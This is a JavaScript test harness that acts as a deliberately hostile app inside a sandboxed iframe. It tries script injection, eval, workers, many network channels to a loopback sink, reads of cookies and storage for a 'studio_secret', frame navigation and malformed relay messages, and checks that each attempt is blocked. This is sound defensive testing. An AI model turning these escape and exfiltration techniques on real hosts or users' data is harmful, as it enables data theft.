// The hostile harness app. It runs in the sandbox proxy's inner frame like any
// app, as the catalogue assumes: arbitrary script with the app's exact hashes.
// The test host asks for a suite with a `sasha-test/run` request (relayed by the
// proxy) and gets one `sasha-test/result` notification back. Every attempt is
// reported with what the page saw; the authority on network leaks is the test's
// sink server, which must count nothing.
"use strict";
(function () {
  const host = window.parent;
  const MAX_MESSAGE_BYTES = 4 * 1024 * 1024;
  const MAX_UPLOAD_MESSAGE_BYTES = 36 * 1024 * 1024;
  // What arrived from the parent, in order (summaries, not the payloads).
  const received = [];
  // Every CSP violation report this document saw.
  const violations = [];
  document.addEventListener("securitypolicyviolation", (event) => {
    violations.push({
      directive: event.effectiveDirective,
      blocked: event.blockedURI,
      policy: event.originalPolicy,
    });
  });

  function post(message, transfer) {
    host.postMessage(message, "*", transfer || []);
  }
  function notify(method, params) {
    post({ jsonrpc: "2.0", method, params });
  }
  // Script text the app vouches for itself: Trusted Types lets it through (the
  // lockdown checks only HTML), so CSP's exact hashes are tested on their own.
  const scripts = trustedTypes.createPolicy("hostile-scripts", { createScript: (text) => text, createScriptURL: (url) => url });
  const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

  function show(results) {
    const list = document.getElementById("results");
    list.replaceChildren();
    for (const result of results) {
      const item = document.createElement("li");
      item.className = result.ok ? "ok" : "failed";
      item.textContent = `${result.ok ? "ok" : "FAILED"}: ${result.name} (${result.detail})`;
      list.append(item);
    }
  }

  // Runs `attempt`; a result is {ok, detail}. An unexpected exception fails,
  // and so does an attempt that does not settle in 5 s.
  async function check(name, attempt) {
    try {
      const timeout = sleep(5000).then(() => ({ ok: false, detail: "did not settle in 5 s" }));
      const { ok, detail } = await Promise.race([attempt(), timeout]);
      return { name, ok: Boolean(ok), detail: String(detail) };
    } catch (error) {
      return { name, ok: false, detail: `unexpected ${error && error.name}: ${error && error.message}` };
    }
  }
  // Passes when `action` throws or its promise rejects.
  function throwsCheck(name, action) {
    return check(name, async () => {
      try {
        const value = await action();
        return { ok: false, detail: `returned ${String(value).slice(0, 80)}` };
      } catch (error) {
        return { ok: true, detail: `${error && error.name}: ${String(error && error.message).slice(0, 120)}` };
      }
    });
  }
  // Passes when the element fires `error` (or nothing) and never `load`.
  function elementCheck(name, create, waitMs) {
    return check(name, () => new Promise((resolve) => {
      let element;
      const timer = setTimeout(() => resolve({ ok: true, detail: "no load event" }), waitMs || 1500);
      const done = (ok, detail) => { clearTimeout(timer); resolve({ ok, detail }); };
      try {
        element = create();
      } catch (error) {
        done(true, `threw ${error.name}`);
        return;
      }
      element.addEventListener("load", () => done(false, "load fired"));
      element.addEventListener("error", () => done(true, "error event"));
      document.body.append(element);
    }));
  }

  async function escapeSuite(sink) {
    const title = document.getElementById("title");
    const hashedColor = getComputedStyle(title).color;
    const checks = [
      check("hashed script and style run", async () => ({
        ok: hashedColor === "rgb(0, 90, 160)",
        detail: `title color ${hashedColor}`,
      })),
      check("injected inline script", async () => {
        const script = document.createElement("script");
        // Trusted Types refuses plain text for a script; the app's own policy
        // passes it through, so the resource's hashes are what must block it.
        script.textContent = scripts.createScript("window.__sashaInjected = true;");
        document.body.append(script);
        await sleep(50);
        return { ok: window.__sashaInjected !== true, detail: `ran: ${window.__sashaInjected === true}` };
      }),
      check("inline event handler attribute", async () => {
        const button = document.createElement("button");
        button.setAttribute("onclick", scripts.createScript("window.__sashaHandler = true;"));
        document.body.append(button);
        button.click();
        const image = document.createElement("img");
        image.setAttribute("onerror", scripts.createScript("window.__sashaHandler = true;"));
        image.src = "data:,";
        document.body.append(image);
        await sleep(100);
        button.remove();
        image.remove();
        return { ok: window.__sashaHandler !== true, detail: `ran: ${window.__sashaHandler === true}` };
      }),
      check("javascript: URL", async () => {
        const link = document.createElement("a");
        link.href = "javascript:window.__sashaJsUrl = true";
        document.body.append(link);
        link.click();
        await sleep(100);
        link.remove();
        return { ok: window.__sashaJsUrl !== true, detail: `ran: ${window.__sashaJsUrl === true}` };
      }),
      check("injected style element and style attribute", async () => {
        const style = document.createElement("style");
        style.textContent = "#title { color: rgb(255, 0, 0) !important; }";
        document.head.append(style);
        const probe = document.createElement("span");
        probe.setAttribute("style", "color: rgb(255, 0, 0)");
        document.body.append(probe);
        await sleep(20);
        const titleColor = getComputedStyle(title).color;
        const probeColor = getComputedStyle(probe).color;
        style.remove();
        probe.remove();
        return {
          ok: titleColor === hashedColor && probeColor !== "rgb(255, 0, 0)",
          detail: `title ${titleColor}, attribute ${probeColor}`,
        };
      }),
      throwsCheck("eval", () => eval("1 + 1")),
      throwsCheck("new Function", () => new Function("return 1")()),
      check("setTimeout with a string", async () => {
        setTimeout(scripts.createScript("window.__sashaTimeout = true;"), 0);
        await sleep(50);
        return { ok: window.__sashaTimeout !== true, detail: `ran: ${window.__sashaTimeout === true}` };
      }),
      check("blob worker", () => new Promise((resolve) => {
        try {
          const worker = new Worker(scripts.createScriptURL(URL.createObjectURL(new Blob(["postMessage(1)"]))));
          const timer = setTimeout(() => resolve({ ok: true, detail: "no message" }), 500);
          worker.onmessage = () => { clearTimeout(timer); resolve({ ok: false, detail: "worker ran" }); };
          worker.onerror = () => { clearTimeout(timer); resolve({ ok: true, detail: "error event" }); };
        } catch (error) {
          resolve({ ok: true, detail: `threw ${error.name}` });
        }
      })),
      throwsCheck("WebAssembly.compile", () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))),
      // Network, every channel to the loopback sink.
      throwsCheck("fetch", () => fetch(`${sink}/fetch`, { mode: "no-cors" })),
      check("XMLHttpRequest", () => new Promise((resolve) => {
        try {
          const request = new XMLHttpRequest();
          request.open("GET", `${sink}/xhr`);
          request.onload = () => resolve({ ok: false, detail: "load" });
          request.onerror = () => resolve({ ok: true, detail: "error event" });
          request.send();
        } catch (error) {
          resolve({ ok: true, detail: `threw ${error.name}` });
        }
      })),
      check("WebSocket", () => new Promise((resolve) => {
        try {
          const socket = new WebSocket(`${sink.replace("http:", "ws:")}/ws`);
          socket.onopen = () => resolve({ ok: false, detail: "open" });
          socket.onerror = () => resolve({ ok: true, detail: "error event" });
        } catch (error) {
          resolve({ ok: true, detail: `threw ${error.name}` });
        }
      })),
      check("EventSource", () => new Promise((resolve) => {
        try {
          const source = new EventSource(`${sink}/events`);
          source.onopen = () => resolve({ ok: false, detail: "open" });
          source.onerror = () => { source.close(); resolve({ ok: true, detail: "error event" }); };
        } catch (error) {
          resolve({ ok: true, detail: `threw ${error.name}` });
        }
      })),
      check("sendBeacon", async () => {
        try {
          // Chromium queues the beacon and applies connect-src when it sends it.
          const queued = navigator.sendBeacon(`${sink}/beacon`, "x");
          await sleep(300);
          return { ok: true, detail: `queued: ${queued}; the sink decides` };
        } catch (error) {
          return { ok: true, detail: `threw ${error.name}` };
        }
      }),
      elementCheck("img", () => Object.assign(document.createElement("img"), { src: `${sink}/img` })),
      elementCheck("script src", () => Object.assign(document.createElement("script"), { src: scripts.createScriptURL(`${sink}/script.js`) })),
      elementCheck("link stylesheet", () => Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${sink}/style.css` })),
      elementCheck("link prefetch", () => Object.assign(document.createElement("link"), { rel: "prefetch", href: `${sink}/prefetch` })),
      elementCheck("object", () => Object.assign(document.createElement("object"), { data: `${sink}/object` })),
      elementCheck("audio", () => Object.assign(document.createElement("audio"), { src: `${sink}/audio` })),
      throwsCheck("FontFace", () => new FontFace("leak", `url(${sink}/font)`).load()),
      check("CSS background image", async () => {
        const box = document.createElement("div");
        box.style.width = "10px";
        box.style.height = "10px";
        box.style.backgroundImage = `url("${sink}/background")`;
        document.body.append(box);
        getComputedStyle(box).backgroundImage;
        await sleep(300);
        box.remove();
        return { ok: true, detail: "attempted; the sink decides" };
      }),
      check("form without a destination", async () => {
        // The spec keeps native submit events (allow-forms on both frames) and
        // relies on form-action 'none': the event fires, nothing navigates.
        const form = document.createElement("form");
        form.append(Object.assign(document.createElement("input"), { name: "leak", value: "secret" }));
        document.body.append(form);
        let submitted = false;
        form.addEventListener("submit", () => { submitted = true; });
        form.requestSubmit();
        await sleep(300);
        form.remove();
        return { ok: submitted, detail: `submit event: ${submitted}; no navigation` };
      }),
      // Isolation from the proxy, the Studio and their storage.
      check("opaque origin", async () => ({ ok: self.origin === "null", detail: `origin ${self.origin}` })),
      throwsCheck("parent.document", () => host.document.title),
      throwsCheck("top.document", () => window.top.document.cookie),
      throwsCheck("top.location.href", () => window.top.location.href),
      throwsCheck("document.domain", () => { document.domain = "127.0.0.1"; return document.domain; }),
      check("document.cookie", async () => {
        let cookie;
        try {
          document.cookie = "app=1";
          cookie = document.cookie;
        } catch (error) {
          return { ok: true, detail: `threw ${error.name}` };
        }
        return { ok: !cookie.includes("studio_secret") && !cookie.includes("app=1"), detail: `read ${JSON.stringify(cookie)}` };
      }),
      throwsCheck("localStorage", () => window.localStorage.getItem("studio_secret")),
      throwsCheck("sessionStorage", () => window.sessionStorage.getItem("studio_secret")),
      throwsCheck("top.localStorage", () => window.top.localStorage.getItem("studio_secret")),
      check("indexedDB", () => new Promise((resolve) => {
        try {
          const request = indexedDB.open("leak");
          request.onsuccess = () => resolve({ ok: false, detail: "opened" });
          request.onerror = () => resolve({ ok: true, detail: "error event" });
        } catch (error) {
          resolve({ ok: true, detail: `threw ${error.name}` });
        }
      })),
      throwsCheck("caches", () => caches.open("leak")),
      throwsCheck("service worker", () => navigator.serviceWorker.register(`${sink}/sw.js`)),
      check("window.open", async () => {
        let opened;
        try {
          opened = window.open(`${sink}/popup`, "_blank");
        } catch (error) {
          return { ok: true, detail: `threw ${error.name}` };
        }
        return { ok: opened === null, detail: `returned ${opened}` };
      }),
      check("top navigation", async () => {
        try {
          window.top.location = `${sink}/top`;
        } catch (error) {
          return { ok: true, detail: `threw ${error.name}` };
        }
        await sleep(300);
        return { ok: true, detail: "no exception; the test checks the top page" };
      }),
      check("parent navigation", async () => {
        try {
          host.location = `${sink}/parent`;
        } catch (error) {
          return { ok: true, detail: `threw ${error.name}` };
        }
        await sleep(300);
        return { ok: true, detail: "no exception; the test checks the proxy frame" };
      }),
      check("alert", async () => {
        const started = Date.now();
        window.alert("hostile");
        return { ok: true, detail: `returned after ${Date.now() - started} ms; the test counts dialogs` };
      }),
      throwsCheck("getUserMedia", () => navigator.mediaDevices.getUserMedia({ video: true })),
      throwsCheck("clipboard.readText", () => navigator.clipboard.readText()),
      throwsCheck("requestFullscreen", () => document.documentElement.requestFullscreen()),
      check("context leaks", async () => {
        const ancestors = Array.from(location.ancestorOrigins || []);
        const leaked = [window.name, document.referrer, ...ancestors].filter((text) => /[?#]|\/[^/]+\//.test(text.replace(/^https?:\/\//, "")));
        return {
          ok: leaked.length === 0 && document.referrer === "",
          detail: `name ${JSON.stringify(window.name)}, referrer ${JSON.stringify(document.referrer)}, ancestors ${JSON.stringify(ancestors)}`,
        };
      }),
    ];
    // A link for the test to click with real user activation (B6).
    const popup = document.createElement("a");
    popup.id = "popup";
    popup.href = `${sink}/activated-popup`;
    popup.target = "_blank";
    popup.textContent = "open a popup";
    document.body.append(popup);
    const results = await Promise.all(checks);
    show(results);
    return results;
  }

  // The relay variants of the catalogue's C7 and C10, sent by the app towards
  // the host; the test host records which tags arrive.
  function relayOut() {
    const channel = new MessageChannel();
    const variants = [
      "not json-rpc",
      [{ jsonrpc: "2.0", method: "sasha-test/echo", params: { tag: "out-batch" } }],
      { jsonrpc: "1.0", method: "sasha-test/echo", params: { tag: "out-version" } },
      { jsonrpc: "2.0", params: { tag: "out-neither" } },
      { jsonrpc: "2.0", id: { object: true }, method: "sasha-test/echo", params: { tag: "out-object-id" } },
      { jsonrpc: "2.0", id: "both", result: { tag: "out-both" }, error: { code: 1, message: "x" } },
      { jsonrpc: "2.0", method: "", params: { tag: "out-empty-method" } },
      { jsonrpc: "2.0", method: 7, params: { tag: "out-number-method" } },
      { jsonrpc: "2.0", method: "sasha-test/echo", params: "out-string-params" },
      { jsonrpc: "2.0", method: "ui/notifications/sandbox-proxy-ready", params: { tag: "out-proxy-ready" } },
      { jsonrpc: "2.0", method: "ui/notifications/sandbox-resource-ready", params: { tag: "out-resource-ready", html: "x" } },
      { jsonrpc: "2.0", method: "sasha-test/echo", params: { tag: "out-too-big", pad: "" } },
      { jsonrpc: "2.0", method: "sasha-test/echo", params: { tag: "out-at-cap", pad: "" } },
      // Only a call of the upload tool may be larger (25 MiB of documents as base64).
      { jsonrpc: "2.0", id: "u1", method: "tools/call", params: { name: "sasha__files_upload", tag: "out-upload-big", pad: "" } },
      { jsonrpc: "2.0", id: "u2", method: "tools/call", params: { name: "sasha__files_upload", tag: "out-upload-too-big", pad: "" } },
      { jsonrpc: "2.0", id: "u3", method: "tools/call", params: { name: "app__hostile__notes__list", tag: "out-call-too-big", pad: "" } },
      { jsonrpc: "2.0", method: "sasha-test/echo", params: { tag: "out-blob", blob: new Blob(["x"]) } },
      { jsonrpc: "2.0", id: 7, method: "sasha-test/echo", params: { tag: "out-request" } },
      { jsonrpc: "2.0", id: "r", result: { tag: "out-result" } },
      { jsonrpc: "2.0", id: 9, error: { code: -32000, message: "no", data: { tag: "out-error" } } },
    ];
    fillTo(variants[11], MAX_MESSAGE_BYTES + 1);
    fillTo(variants[12], MAX_MESSAGE_BYTES);
    fillTo(variants[13], MAX_MESSAGE_BYTES + 1024 * 1024);
    fillTo(variants[14], MAX_UPLOAD_MESSAGE_BYTES + 1);
    fillTo(variants[15], MAX_MESSAGE_BYTES + 1);
    for (const variant of variants) {
      post(variant);
    }
    post({ jsonrpc: "2.0", method: "sasha-test/echo", params: { tag: "out-port" } }, [channel.port1]);
    notify("sasha-test/echo", { tag: "out-done" });
  }
  // Pads `message.params.pad` so its JSON text is exactly `bytes` long.
  function fillTo(message, bytes) {
    message.params.pad = "";
    const base = JSON.stringify(message).length;
    message.params.pad = "x".repeat(bytes - base);
  }

  // The app navigates its own frame: the proxy must tear it down (B3, B4).
  function navigate(to, sink) {
    const leak = `fetch("${sink}/after-navigation").catch(function () {});` +
      "parent.postMessage({jsonrpc: \"2.0\", method: \"sasha-test/navigated-document\", params: {}}, \"*\");";
    const page = `<!doctype html><p>navigated</p><scr` + `ipt>${leak}</scr` + `ipt><img src="${sink}/after-navigation-img">`;
    if (to === "data") {
      location.href = `data:text/html,${encodeURIComponent(page)}`;
    } else if (to === "blob") {
      location.href = URL.createObjectURL(new Blob([page], { type: "text/html" }));
    } else if (to === "http") {
      location.href = `${sink}/navigation`;
    } else if (to === "form") {
      const form = document.createElement("form");
      form.method = "post";
      form.action = `${sink}/form`;
      form.append(Object.assign(document.createElement("input"), { name: "leak", value: "secret" }));
      document.body.append(form);
      form.requestSubmit();
    } else if (to === "refresh") {
      const meta = document.createElement("meta");
      meta.httpEquiv = "refresh";
      meta.content = `0;url=${sink}/refresh`;
      document.head.append(meta);
    }
  }

  function tagOf(data) {
    if (data === null || typeof data !== "object") {
      return undefined;
    }
    const inner = [data.params, data.result, data.error && data.error.data];
    const holder = inner.find((value) => value !== null && typeof value === "object" && "tag" in value);
    return holder ? holder.tag : undefined;
  }

  window.addEventListener("message", async (event) => {
    if (event.source !== host) {
      return;
    }
    const data = event.data;
    const params = data && typeof data === "object" ? data.params : undefined;
    received.push({
      tag: tagOf(data),
      id: data && data.id,
      method: data && data.method,
      ports: event.ports.length,
      blobIsBlob: Boolean(params && params.blob instanceof Blob),
      bytes: JSON.stringify(data).length,
    });
    if (!data || data.method !== "sasha-test/run") {
      return;
    }
    const { suite, sink } = params;
    document.getElementById("status").textContent = `running ${suite}`;
    let result;
    if (suite === "escape") {
      result = { results: await escapeSuite(sink) };
      // Late reports (the blocked channels settle asynchronously).
      await sleep(200);
      result.violations = violations;
    } else if (suite === "nested-frame") {
      // Kept apart from the escape suite: Chromium opens a bare TCP connection
      // to a CSP-blocked frame's origin (a channel CSP does not govern, B9),
      // so the realm lockdown refuses the frame element itself.
      result = {
        results: [await check("nested iframe", async () => {
          try {
            document.body.append(Object.assign(document.createElement("iframe"), { src: `${sink}/frame` }));
          } catch (error) {
            return { ok: true, detail: `refused: ${error.name}` };
          }
          await sleep(700);
          return { ok: false, detail: "the frame element was created" };
        })],
      };
    } else if (suite === "received") {
      result = { received };
    } else if (suite === "relay-out") {
      relayOut();
      return;
    } else if (suite === "navigate") {
      navigate(params.to, sink);
      return;
    }
    document.getElementById("status").textContent = `finished ${suite}`;
    post({ jsonrpc: "2.0", id: data.id, result });
  });

  notify("sasha-test/loaded", { origin: self.origin });
})();
